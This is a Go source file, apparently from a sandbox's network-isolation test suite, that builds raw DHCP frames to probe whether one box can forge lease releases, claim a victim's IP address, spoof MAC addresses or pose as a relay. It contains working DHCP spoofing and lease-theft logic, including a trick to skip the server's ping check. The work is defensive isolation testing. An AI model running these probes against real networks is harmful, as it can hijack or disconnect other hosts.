package probes

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/netip"

	"github.com/claudebox/claudebox/internal/netdump"
	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/vishvananda/netlink"
)

// dhcpRun is one dhcp-* probe's context: where to send and as whom.
type dhcpRun struct {
	pc      *packetConn
	ifi     *net.Interface
	own     netip.Addr // our IPv4 (may be invalid: no lease)
	server  netip.Addr
	srvMAC  net.HardwareAddr
	marker  string
	frameSM net.HardwareAddr // source MAC of the frames we send
	fake    net.HardwareAddr // dhcp-fake-mac's chaddr
}

// probeDHCP runs dhcp-release, dhcp-steal or dhcp-fake-mac at L2 (frames
// built here, so chaddr, client-id and the frame's source MAC are ours to
// choose). Outcome, shared by the three:
//
//	open          an ACK/OFFER gave the victim's address to AskMAC (release,
//	              steal) or offered anything to FakeMAC (fake-mac)
//	refused       the server answered otherwise (NAK; another address)
//	dropped       no reply before the timeout
//	check-failed  no interface, no server, no packet socket, nothing sent
func probeDHCP(ctx context.Context, s Spec, r *Result) {
	d, err := newDHCPRun(ctx, s, r.Counts.Marker)
	if err != nil {
		r.Outcome, r.Evidence = CheckFailed, err.Error()
		return
	}
	defer d.pc.Close()
	msgs, chaddr, want, err := d.messages(s)
	if err != nil {
		r.Outcome, r.Evidence = CheckFailed, err.Error()
		return
	}
	xid := msgs[len(msgs)-1].TransactionID
	first := true
	send := func() error {
		// The release goes once (then the request repeats): releasing twice
		// could free a lease the victim renewed in between.
		batch := msgs[len(msgs)-1:]
		if first {
			batch, first = msgs, false
		}
		for _, m := range batch {
			if err := d.pc.send(d.frame(m)); err != nil {
				return err
			}
		}
		return nil
	}
	// An ACK or NAK (or for fake-mac any offer) decides: cancel ends the watch at once.
	wctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var reply *dhcpv4.DHCPv4
	match := func(fi frameInfo, _ []byte, _ uint8) bool {
		if fi.Proto != 17 || fi.SPort != 67 || fi.DPort != 68 {
			return false
		}
		m, err := dhcpv4.FromBytes(fi.L4)
		if err != nil || m.TransactionID != xid || m.OpCode != dhcpv4.OpcodeBootReply {
			return false
		}
		if reply == nil || m.MessageType() != dhcpv4.MessageTypeOffer {
			reply = m // an ACK/NAK outranks an earlier OFFER
		}
		if m.MessageType() != dhcpv4.MessageTypeOffer || s.Kind == KindDHCPFakeMAC {
			cancel()
		}
		return true
	}
	seen, sendErr, readErr := watch(wctx, d.pc, r.Counts, send, match)
	r.Counts.Replies = seen
	r.Local = fmt.Sprintf("chaddr %s, frames from %s on %s", chaddr, d.frameSM, d.ifi.Name)
	switch {
	case readErr != nil:
		r.Outcome, r.Evidence = CheckFailed, "capture failed: "+readErr.Error()
	case r.Counts.Sent == 0:
		r.Outcome, r.Evidence = CheckFailed, fmt.Sprintf("nothing could be sent: %v", sendErr)
	case reply == nil:
		r.Outcome, r.Evidence = Dropped, fmt.Sprintf("no DHCP reply from %s in %d send(s)", d.server, r.Counts.Sent)
	default:
		r.DHCPReply = describeReply(reply)
		r.Answer = fmt.Sprintf("%s %s to %s", r.DHCPReply.Type, r.DHCPReply.YourIP, r.DHCPReply.ChAddr)
		r.Outcome, r.Evidence = judgeDHCP(s.Kind, reply, want)
	}
}

func newDHCPRun(ctx context.Context, s Spec, marker string) (*dhcpRun, error) {
	var server netip.Addr
	if s.DHCP.Server != "" {
		server = netip.MustParseAddr(s.DHCP.Server).Unmap()
	}
	ifi, own, err := linkFor(s.Iface, server)
	if err != nil {
		return nil, err
	}
	if !server.IsValid() {
		if server, err = gatewayOf(ifi); err != nil {
			return nil, err
		}
	}
	pc, err := openPacket(ifi.Name)
	if err != nil {
		return nil, err
	}
	d := &dhcpRun{pc: pc, ifi: ifi, own: own, server: server, marker: marker, srvMAC: broadcastMAC, frameSM: ifi.HardwareAddr}
	if m, ok := resolveMAC(ctx, ifi, server); ok {
		d.srvMAC = m
	}
	if s.Kind == KindDHCPFakeMAC {
		d.fake = macOr(s.DHCP.FakeMAC, nil)
		if !s.DHCP.OwnFrame {
			d.frameSM = d.fake
		}
	}
	return d, nil
}

// gatewayOf is the IPv4 default gateway on ifi: the box's DHCP server under Incus.
func gatewayOf(ifi *net.Interface) (netip.Addr, error) {
	rs, err := netdump.Routes(nil, netlink.FAMILY_V4)
	if err != nil {
		return netip.Addr{}, err
	}
	for _, rt := range rs {
		if rt.LinkIndex == ifi.Index && rt.Gw != nil && (rt.Dst == nil || rt.Dst.IP.IsUnspecified()) {
			if a, ok := netip.AddrFromSlice(rt.Gw); ok {
				return a.Unmap(), nil
			}
		}
	}
	return netip.Addr{}, fmt.Errorf("no dhcp.server given and no IPv4 default gateway on %s", ifi.Name)
}

// macOr parses v, or returns def, or a fresh random MAC when def is nil.
func macOr(v string, def net.HardwareAddr) net.HardwareAddr {
	if m, err := net.ParseMAC(v); err == nil && v != "" {
		return m
	}
	if def != nil {
		return def
	}
	return randomMAC()
}

// messages builds what the kind sends; the last one is the request that
// gets the deciding reply. want is the address that, given back, is open.
func (d *dhcpRun) messages(s Spec) (msgs []*dhcpv4.DHCPv4, chaddr net.HardwareAddr, want netip.Addr, err error) {
	ds := s.DHCP
	tag := dhcpv4.WithOption(dhcpv4.OptMessage(d.marker))
	if s.Kind == KindDHCPRelay {
		// A box posing as a relay: a DISCOVER for its own MAC naming the victim as giaddr,
		// the marker in option 82, which dnsmasq echoes in its answer to giaddr:67.
		chaddr = d.ifi.HardwareAddr
		giaddr := net.ParseIP(ds.VictimIP).To4()
		disc, err := dhcpv4.NewDiscovery(chaddr, tag, dhcpv4.WithGatewayIP(giaddr),
			dhcpv4.WithOption(dhcpv4.OptRelayAgentInfo(dhcpv4.OptGeneric(dhcpv4.GenericOptionCode(1), []byte(d.marker)))))
		if err == nil {
			disc.HopCount = 1
		}
		return []*dhcpv4.DHCPv4{disc}, chaddr, netip.Addr{}, err
	}
	if s.Kind == KindDHCPFakeMAC {
		chaddr = d.fake
		disc, err := dhcpv4.NewDiscovery(chaddr, dhcpv4.WithBroadcast(true), tag)
		return []*dhcpv4.DHCPv4{disc}, chaddr, netip.Addr{}, err
	}
	want = netip.MustParseAddr(ds.VictimIP).Unmap()
	chaddr = macOr(ds.AskMAC, nil)
	if s.Kind == KindDHCPRelease {
		vmac, _ := net.ParseMAC(ds.VictimMAC)
		mods := []dhcpv4.Modifier{dhcpv4.WithMessageType(dhcpv4.MessageTypeRelease), dhcpv4.WithHwAddr(vmac),
			dhcpv4.WithClientIP(net.IP(want.AsSlice())), dhcpv4.WithOption(dhcpv4.OptServerIdentifier(net.IP(d.server.AsSlice())))}
		if ds.ClientID != "" {
			id, herr := hex.DecodeString(ds.ClientID)
			if herr != nil {
				return nil, nil, want, errors.New("dhcp.client_id is not hex")
			}
			mods = append(mods, dhcpv4.WithOption(dhcpv4.OptClientIdentifier(id)))
		}
		rel, err := dhcpv4.New(mods...)
		if err != nil {
			return nil, nil, want, err
		}
		msgs = append(msgs, rel)
	}
	// A SELECTING-style request for the victim's address: no DISCOVER first,
	// so dnsmasq's ping-before-offer (which a live victim answers) is skipped.
	req, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeRequest), dhcpv4.WithHwAddr(chaddr),
		dhcpv4.WithBroadcast(true), tag,
		dhcpv4.WithOption(dhcpv4.OptRequestedIPAddress(net.IP(want.AsSlice()))),
		dhcpv4.WithOption(dhcpv4.OptServerIdentifier(net.IP(d.server.AsSlice()))))
	return append(msgs, req), chaddr, want, err
}

// frame wraps m: unicast to the server from our address for a release
// (dnsmasq reads only ciaddr/chaddr, and our own source passes IP filters),
// broadcast from 0.0.0.0 for the rest.
func (d *dhcpRun) frame(m *dhcpv4.DHCPv4) []byte {
	src, dst, dmac := netip.IPv4Unspecified(), netip.AddrFrom4([4]byte{255, 255, 255, 255}), broadcastMAC
	if m.MessageType() == dhcpv4.MessageTypeRelease || !m.GatewayIPAddr.IsUnspecified() && m.GatewayIPAddr != nil {
		dst, dmac = d.server, d.srvMAC
		if d.own.IsValid() {
			src = d.own
		}
	}
	return ethFrame(dmac, d.frameSM, false, etherIPv4,
		udpPacket(netip.AddrPortFrom(src, 68), netip.AddrPortFrom(dst, 67), m.ToBytes()))
}

func describeReply(m *dhcpv4.DHCPv4) *DHCPReply {
	out := &DHCPReply{Type: m.MessageType().String(), ChAddr: m.ClientHWAddr.String(), Message: m.Message()}
	if !m.YourIPAddr.IsUnspecified() {
		out.YourIP = m.YourIPAddr.String()
	}
	if sid := m.ServerIdentifier(); sid != nil {
		out.Server = sid.String()
	}
	return out
}

func judgeDHCP(kind Kind, m *dhcpv4.DHCPv4, want netip.Addr) (Outcome, string) {
	yi, _ := netip.AddrFromSlice(m.YourIPAddr.To4())
	t := m.MessageType()
	switch {
	case t == dhcpv4.MessageTypeNak:
		return Refused, fmt.Sprintf("server said NAK (%q)", m.Message())
	case kind == KindDHCPRelay:
		return Open, fmt.Sprintf("%s to the relay request came back to the sender", t)
	case kind == KindDHCPFakeMAC && (t == dhcpv4.MessageTypeOffer || t == dhcpv4.MessageTypeAck):
		return Open, fmt.Sprintf("%s of %s to the fake MAC %s", t, yi, m.ClientHWAddr)
	case yi == want && (t == dhcpv4.MessageTypeOffer || t == dhcpv4.MessageTypeAck):
		return Open, fmt.Sprintf("%s gave the victim's address %s to %s", t, yi, m.ClientHWAddr)
	default:
		return Refused, fmt.Sprintf("server answered %s %s, not the victim's address %s", t, yi, want)
	}
}
